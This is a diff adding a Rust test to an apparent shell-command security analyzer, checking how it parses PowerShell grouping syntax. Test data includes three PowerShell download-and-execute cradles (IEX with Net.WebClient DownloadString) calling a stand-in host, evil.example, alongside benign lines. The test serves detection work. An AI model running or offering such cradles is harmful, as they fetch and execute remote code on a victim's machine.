@@ -2245,6 +2245,38 @@ fn powershell_is_read_as_powershell() {
 }
 
 #[test]
+fn a_powershell_group_with_a_member_and_a_command_glued_to_a_group_are_read() {
+    // `iex (…).DownloadString(u)` and `IEX(…)…`: the download is what Invoke-Expression runs.
+    for line in [
+        "iex (New-Object Net.WebClient).DownloadString('https://evil.example/a')",
+        "IEX(New-Object Net.WebClient).downloadString('https://evil.example/a')",
+        "IEX (New-Object System.Net.WebClient).DownloadString(\"http://evil.example/p.ps1\")",
+    ] {
+        let an = a(line);
+        assert!(
+            !has_finding(&an, |f| matches!(f, ShellFinding::ParseError { .. })),
+            "{line}: {an:?}"
+        );
+        let curl = find(&an, "curl");
+        assert!(curl.in_substitution, "{line}: {an:?}");
+        assert!(
+            args(curl).iter().any(|a| a.contains("evil.example")),
+            "{line}"
+        );
+    }
+    // A member of a group as an argument, and a command given a group, parse and run nothing
+    // dangerous.
+    for line in [
+        "Get-ChildItem (Get-Location).Path",
+        "Write-Output(1+1)",
+        "(Get-Item .).FullName",
+    ] {
+        let an = a(line);
+        assert!(an.findings.is_empty(), "{line}: {an:?}");
+    }
+}
+
+#[test]
 fn powershell_encoded_commands_are_decoded() {
     // `-EncodedCommand` (and its prefixes) is base64 of UTF-16LE PowerShell.
     for option in ["-EncodedCommand", "-enc", "-e", "-ec", "-EnCoDeDcOmMaNd"] {
